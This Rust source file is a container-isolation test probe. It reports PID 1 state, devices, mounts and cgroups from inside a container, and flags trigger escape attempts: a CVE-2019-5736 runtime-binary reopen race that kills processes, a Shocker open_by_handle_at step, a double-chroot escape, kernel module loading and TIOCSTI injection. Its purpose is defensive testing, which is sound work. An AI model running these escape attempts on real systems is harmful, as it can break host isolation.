//! Placed inside a container and run with `sysctr exec`, it reports what the container looks
//! like from within, as one JSON document. It only observes; the tests decide what is right.

use std::collections::BTreeMap;
use std::os::unix::fs::{FileTypeExt, MetadataExt, OpenOptionsExt};

use serde_json::{json, Value};

fn read(path: &str) -> Option<String> {
    std::fs::read_to_string(path).ok()
}

fn status_fields(pid: &str, prefix: &str) -> BTreeMap<String, String> {
    read(&format!("/proc/{pid}/status"))
        .unwrap_or_default()
        .lines()
        .filter(|l| l.starts_with(prefix))
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.to_owned(), v.trim().to_owned()))
        .collect()
}

fn devices() -> Vec<Value> {
    let mut out = Vec::new();
    if let Ok(rd) = std::fs::read_dir("/dev") {
        for e in rd.flatten() {
            let Ok(m) = std::fs::symlink_metadata(e.path()) else { continue };
            let ft = m.file_type();
            let kind = if ft.is_char_device() {
                "char"
            } else if ft.is_block_device() {
                "block"
            } else if ft.is_symlink() {
                "symlink"
            } else if ft.is_dir() {
                "dir"
            } else {
                "file"
            };
            let rdev = m.rdev();
            out.push(json!({
                "name": e.file_name().to_string_lossy(),
                "kind": kind,
                "major": nix::sys::stat::major(rdev),
                "minor": nix::sys::stat::minor(rdev),
                "mode": format!("{:o}", m.mode() & 0o7777),
                "target": std::fs::read_link(e.path()).ok().map(|t| t.display().to_string()),
            }));
        }
    }
    out.sort_by(|a, b| a["name"].as_str().cmp(&b["name"].as_str()));
    out
}

fn mounts() -> Vec<Value> {
    sysctr::sys::mountinfo::read_self()
        .unwrap_or_default()
        .into_iter()
        .map(|m| {
            json!({
                "target": m.mount_point.display().to_string(),
                "fstype": m.fstype,
                "options": m.options,
                "super_options": m.super_options,
            })
        })
        .collect()
}

/// Whether a write under `dir` is refused as read-only (EROFS), refused by permission
/// (EACCES: the file belongs to the host's root), or allowed.
fn write_result(path: &str) -> String {
    match std::fs::OpenOptions::new().write(true).open(path) {
        Ok(_) => "writable".into(),
        Err(e) if e.raw_os_error() == Some(libc::EROFS) => "read-only".into(),
        Err(e) if e.raw_os_error() == Some(libc::EACCES) => "denied".into(),
        Err(e) => format!("error: {e}"),
    }
}

fn cgroupfs() -> Value {
    let fs = nix::sys::statfs::statfs("/sys/fs/cgroup").ok();
    let kind = match fs.map(|s| s.filesystem_type()) {
        Some(t) if t == nix::sys::statfs::CGROUP2_SUPER_MAGIC => "cgroup2",
        Some(t) if t == nix::sys::statfs::TMPFS_MAGIC => "tmpfs",
        Some(_) => "other",
        None => "absent",
    };
    let probe_dir = "/sys/fs/cgroup/sysctr-probe";
    let writable = std::fs::create_dir(probe_dir).is_ok();
    if writable {
        let _ = std::fs::remove_dir(probe_dir);
    }
    let controllers = read("/sys/fs/cgroup/cgroup.controllers").map(|c| c.trim().to_owned());
    json!({ "fstype": kind, "writable": writable, "controllers": controllers })
}

/// `--tiocsti TEXT`: try to inject TEXT into the terminal on stdin; report the outcome.
fn tiocsti(text: &str) {
    use std::os::fd::AsFd;
    let stdin = std::io::stdin();
    let result = text.bytes().try_for_each(|b| sysctr::sys::tiocsti(stdin.as_fd(), b));
    let outcome = match result {
        Ok(()) => "injected".to_owned(),
        Err(e) => format!("refused: {e}"),
    };
    println!("{}", json!({ "tiocsti": outcome }));
}

/// Allocate and touch `mib` MiB in 16 MiB steps, saying how far it got (for OOM tests).
fn alloc(mib: usize) {
    use std::io::Write;
    let mut held: Vec<Vec<u8>> = Vec::new();
    for step in 0..mib.div_ceil(16) {
        let mut chunk = vec![0u8; 16 << 20];
        // Touch every page so it is really charged.
        for i in (0..chunk.len()).step_by(4096) {
            chunk[i] = 1;
        }
        held.push(chunk);
        println!("allocated {} MiB", (step + 1) * 16);
        let _ = std::io::stdout().flush();
    }
    println!("done");
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.get(1).map(String::as_str) == Some("--tiocsti") {
        tiocsti(args.get(2).map(String::as_str).unwrap_or(""));
        return;
    }
    match args.get(1).map(String::as_str) {
        Some("--exe-attack") => return exe_attack(args.get(2).and_then(|n| n.parse().ok()).expect("--exe-attack SECONDS")),
        Some("--shocker") => return shocker(),
        Some("--chroot-escape") => return chroot_escape(args.get(2).expect("--chroot-escape HOST_PATH")),
        Some("--load-module") => return load_module(),
        _ => {}
    }
    if args.get(1).map(String::as_str) == Some("--alloc") {
        alloc(args.get(2).and_then(|n| n.parse().ok()).expect("--alloc MiB"));
        return;
    }
    let pid1_fds: Vec<u32> = std::fs::read_dir("/proc/1/fd")
        .map(|rd| rd.flatten().filter_map(|e| e.file_name().to_str()?.parse().ok()).collect())
        .unwrap_or_default();
    let mut pid1_fds = pid1_fds;
    pid1_fds.sort_unstable();
    let environ: Vec<String> = read("/proc/1/environ")
        .unwrap_or_default()
        .split('\0')
        .filter(|s| !s.is_empty())
        .map(str::to_owned)
        .collect();
    let pts_dev = std::fs::metadata("/dev/pts").map(|m| m.dev()).ok();
    let report = json!({
        "hostname": nix::unistd::gethostname().ok().map(|h| h.to_string_lossy().into_owned()),
        "pid1_cmdline": read("/proc/1/cmdline").map(|c| c.replace('\0', " ").trim().to_owned()),
        "pid1_caps": status_fields("1", "Cap"),
        "pid1_sigign": status_fields("1", "SigIgn").get("SigIgn").cloned(),
        "pid1_fds": pid1_fds,
        "pid1_environ": environ,
        "self_pid_in_ns": std::process::id(),
        "proc_sys": write_result("/proc/sys/kernel/hostname"),
        "sys": write_result("/sys/kernel/uevent_seqnum"),
        "devices": devices(),
        "devpts_dev": pts_dev,
        "mounts": mounts(),
        "pid1_cgroup": read("/proc/1/cgroup"),
        "self_cgroup": read("/proc/self/cgroup"),
        "cgroupfs": cgroupfs(),
    });
    println!("{}", serde_json::to_string_pretty(&report).expect("json serialises"));
}

/// errno of the last failed call, as a name.
fn errno_name(e: nix::Error) -> String {
    format!("{e:?}")
}

/// CVE-2019-5736 from inside: watch for processes running a binary that is not ours (the
/// runtime's, during `exec`), stop them, keep an O_PATH handle of their executable, kill
/// them, then try to open that executable for writing. Never writes: opening is the proof.
fn exe_attack(seconds: u64) {
    use std::os::fd::AsRawFd;
    let me = std::process::id().to_string();
    let own = std::fs::metadata("/proc/self/exe").map(|m| (m.dev(), m.ino())).ok();
    let end = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
    let mut handles: Vec<(String, std::fs::File)> = Vec::new();
    let mut seen = BTreeMap::new();
    let mut results: BTreeMap<String, String> = BTreeMap::new();
    while std::time::Instant::now() < end {
        for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let pid = e.file_name().to_string_lossy().into_owned();
            if pid == me || !pid.bytes().all(|b| b.is_ascii_digit()) || pid == "1" {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            let Ok(target) = std::fs::read_link(&exe) else { continue };
            let target = target.display().to_string();
            // The container's own programs (busybox, the shell) are no prize.
            if target.contains("busybox") || target.starts_with("/bin/") {
                continue;
            }
            let _ = nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid.parse().unwrap_or(0)), nix::sys::signal::Signal::SIGSTOP);
            match std::fs::OpenOptions::new().custom_flags(libc::O_PATH).read(true).open(&exe) {
                Ok(f) => {
                    let id = f.metadata().map(|m| (m.dev(), m.ino())).ok();
                    if id != own && !seen.contains_key(&target) {
                        seen.insert(target.clone(), pid.clone());
                        handles.push((target.clone(), f));
                    }
                }
                Err(e) => {
                    results.entry(format!("{target} (pid {pid}, /proc/PID/exe)")).or_insert_with(|| e.to_string());
                }
            }
            let _ = nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid.parse().unwrap_or(0)), nix::sys::signal::Signal::SIGKILL);
        }
        // Once the holder is gone the binary is no longer busy: reopen it for writing.
        for (target, f) in &handles {
            let path = format!("/proc/self/fd/{}", f.as_raw_fd());
            let r = std::fs::OpenOptions::new().write(true).open(&path);
            let outcome = match r {
                Ok(_) => "OPENED FOR WRITING".to_owned(),
                Err(e) => e.to_string(),
            };
            if outcome != "Text file busy (os error 26)" {
                results.insert(target.clone(), outcome);
            }
        }
        std::thread::sleep(std::time::Duration::from_micros(200));
    }
    println!("{}", json!({ "seen": seen, "results": results }));
}

/// The Shocker exploit's first step: open a host inode (2, the root of most filesystems)
/// by handle.
fn shocker() {
    let root = std::fs::File::open("/").expect("open /");
    let out = match sysctr::sys::syscalls::open_by_inode_handle(std::os::fd::AsFd::as_fd(&root)) {
        Ok(_) => "OPENED".to_owned(),
        Err(e) => errno_name(e),
    };
    println!("{}", json!({ "open_by_handle_at": out }));
}

/// The double-chroot escape: chroot into a subdirectory, walk up past it, chroot there.
/// Reports whether `host_path` (a path only the host has) became visible.
fn chroot_escape(host_path: &str) {
    let _ = std::fs::create_dir_all("/tmp/jail");
    let steps = (|| -> nix::Result<()> {
        nix::unistd::chroot("/tmp/jail")?;
        for _ in 0..64 {
            nix::unistd::chdir("..")?;
        }
        nix::unistd::chroot(".")
    })();
    println!(
        "{}",
        json!({
            "steps": steps.map(|()| "ok".to_owned()).unwrap_or_else(errno_name),
            "host_path_visible": std::path::Path::new(host_path).exists(),
        })
    );
}

/// Loading a kernel module, both ways.
fn load_module() {
    let f = std::fs::File::open("/proc/self/exe").expect("open self");
    let (finit, init) = sysctr::sys::syscalls::load_module(std::os::fd::AsFd::as_fd(&f));
    let show = |r: nix::Result<()>| r.map(|()| "LOADED".to_owned()).unwrap_or_else(errno_name);
    println!("{}", json!({ "finit_module": show(finit), "init_module": show(init) }));
}
